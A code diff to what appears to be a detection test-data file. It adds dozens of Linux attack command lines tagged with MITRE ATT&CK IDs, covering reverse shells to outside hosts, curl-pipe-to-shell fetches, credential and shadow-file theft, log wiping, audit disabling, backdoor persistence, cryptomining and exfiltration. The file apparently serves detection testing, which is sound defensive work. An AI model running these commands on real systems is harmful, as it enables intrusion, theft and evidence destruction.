@@ -111,10 +111,10 @@ T1572 ngrok tcp 22
 T1572 cloudflared tunnel --url http://localhost:22
 T1572 gs-netcat -s secret -l -i
 T1090.001 socat TCP-LISTEN:8443,fork TCP:10.20.0.3:22
-T1588.002 ./linpeas.sh -a
-T1588.002 ./pspy64
-T1588.002 masscan 10.0.0.0/8 -p22
-T1588.002 hydra -l root -P words.txt ssh://10.20.0.3
+T1082 ./linpeas.sh -a
+T1057 ./pspy64
+T1046 masscan 10.0.0.0/8 -p22
+T1110 hydra -l root -P words.txt ssh://10.20.0.3
 T1070.003 $ unset HISTFILE
 T1070.003 $ export HISTFILE=/dev/null
 T1070.003 $ HISTSIZE=0; id
@@ -271,7 +271,82 @@ T1059.004 $ /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/8080 0>&1'
 T1053.003 $ echo '* * * * * root /tmp/.a' > /etc/cron.d/a
 """
 
-BLOCKS: tuple[tuple[Actor, str], ...] = ((NEWCOMER, _USER), (ROOT, _ROOT), (JOBS, _JOB))
+_MISSED_USER = r"""
+T1059 perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"198.51.100.7:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
+T1059 websocat -E --exec-args tcp:198.51.100.7:443 exec:/bin/bash
+T1059 tclsh -c 'set s [socket 198.51.100.7 4242]; gets $s c; catch {eval "exec $c"}'
+T1059.004 $ zmodload zsh/net/tcp && ztcp 198.51.100.7 4242 && zsh >&$REPLY 0>&$REPLY
+T1059 perl -e 'use LWP::Simple; eval get("http://198.51.100.23/irc.pl")'
+T1620 python3 -c 'import ctypes,os;f=ctypes.CDLL(None).syscall(319,b"x",1);os.execve("/proc/self/fd/%d"%f,["x"],{})'
+T1059 python3 /var/tmp/.cache/rev.py
+T1059 /lib64/ld-linux-x86-64.so.2 /tmp/payload
+T1027 $ printf "\x69\x64" | sh
+T1555.003 sqlite3 '/home/noor/.config/google-chrome/Default/Login Data' 'select * from logins'
+T1558.005 find / -name 'krb5cc_*'
+T1110.002 hashcat -m 1800 h.txt rockyou.txt
+T1552.001 trufflehog filesystem / --json
+T1098.004 $ echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDK x" >> ~/.ssh/authorized_keys
+T1546 cp /tmp/h /srv/git/repo.git/hooks/post-receive
+T1547.013 $ printf "[Desktop Entry]\nExec=/tmp/.x\n" > ~/.config/autostart/upd.desktop
+T1543.002 $ cp /tmp/x.service ~/.config/systemd/user/
+T1087.001 bash linpeas.sh -a
+T1068 perl linux-exploit-suggester-2.pl
+T1018 $ for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done
+T1046 $ for p in 22 80 443 3306; do (echo > /dev/tcp/10.0.0.5/$p) && echo open; done
+T1046 nc -zvn 10.0.0.5 1-1024
+T1018 enum4linux -a 10.0.0.20
+T1572 sshpass -p toor ssh -o StrictHostKeyChecking=no -R 4444:127.0.0.1:22 root@198.51.100.7
+T1090 proxychains4 nmap -sT 10.1.0.0/24
+T1048 scp /tmp/all.tar.gz root@198.51.100.7:/root/
+T1048 aws s3 cp /tmp/l.tgz s3://x --endpoint-url http://198.51.100.7:9000
+T1021.004 ssh -i /tmp/k -o UserKnownHostsFile=/dev/null root@10.0.0.9
+T1210 redis-cli -h 10.0.0.9 config set dir /var/spool/cron
+T1563.001 env SSH_AUTH_SOCK=/tmp/ssh-abc/agent.99 ssh root@10.0.0.4
+T1021.004 ssh root@10.0.0.4 'curl http://198.51.100.23/x|sh'
+"""
+
+_MISSED_ROOT = r"""
+T1070.002 $ > /var/log/wtmp
+T1070.002 dd if=/dev/zero of=/var/log/syslog bs=1M count=1
+T1070.002 find /var/log -type f -exec shred -u {} ;
+T1070.002 $ for i in wtmp btmp lastlog secure; do cat /dev/null > /var/log/$i; done
+T1070.002 mv /tmp/a /var/log/nginx/access.log
+T1070.002 python3 -c "open('/var/log/auth.log','w').close()"
+T1562.001 /bin/sh /usr/sbin/service auditd stop
+T1562.001 /bin/sh /usr/local/qcloud/YunJing/uninst.sh
+T1562.012 sed -i /execve/d /etc/audit/rules.d/audit.rules
+T1562.003 sed -i 's/HISTSIZE=.*/HISTSIZE=0/' /root/.bashrc
+T1003.007 gcore -o /tmp/core 1123
+T1003.008 awk -F: '{print $1,$2}' /etc/shadow
+T1555 tdbdump /var/lib/samba/private/secrets.tdb
+T1053.003 $ echo "@reboot root /usr/bin/.sshd" > /etc/cron.d/0hourly
+T1053.002 at -f /tmp/x.sh now + 1 minute
+T1053.006 systemd-run --on-active=60 /bin/bash /tmp/x.sh
+T1546.004 cp /tmp/z.sh /etc/profile.d/z.sh
+T1546 $ echo 'APT::Update::Pre-Invoke {"/tmp/x";};' > /etc/apt/apt.conf.d/99x
+T1547.006 cp r.ko /lib/modules/5.10.0/kernel/drivers/net/
+T1098 $ echo "root:Passw0rd!" | chpasswd
+T1098 usermod -aG sudo www-data
+T1554 cp /tmp/sshd /usr/sbin/sshd
+T1554 mv /usr/bin/ps /usr/bin/ps.original
+T1505.003 cp /tmp/shell.jsp /opt/tomcat/webapps/ROOT/x.jsp
+T1090 iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to-destination 198.51.100.7:443
+T1496.001 wrmsr -a 0x1a4 0xf
+T1496.001 docker run -d --restart=always metal3d/xmrig -o pool:3333
+T1489 esxcli vm process kill --type=force --world-id=12345
+T1529 $ echo c > /proc/sysrq-trigger
+T1611 debugfs -R 'cat /etc/shadow' /dev/sda1
+T1552.007 curl -sk -H 'Authorization: Bearer x' https://10.96.0.1/api/v1/secrets
+T1027 $ echo 6964 | xxd -p -r | bash
+T1136.001 useradd -ou 0 -g 0 backdoor
+T1556.003 cp /tmp/pam_unix.so /usr/lib64/security/
+T1548.003 nmap --interactive
+"""
+"""Lines of a second set of 391, written before the rules were read, that its first pass missed."""
+
+BLOCKS: tuple[tuple[Actor, str], ...] = (
+    (NEWCOMER, _USER), (ROOT, _ROOT), (JOBS, _JOB), (NEWCOMER, _MISSED_USER), (ROOT, _MISSED_ROOT),
+)  # fmt: skip
 
 
 def cases() -> Iterator[tuple[Actor, str, str]]:
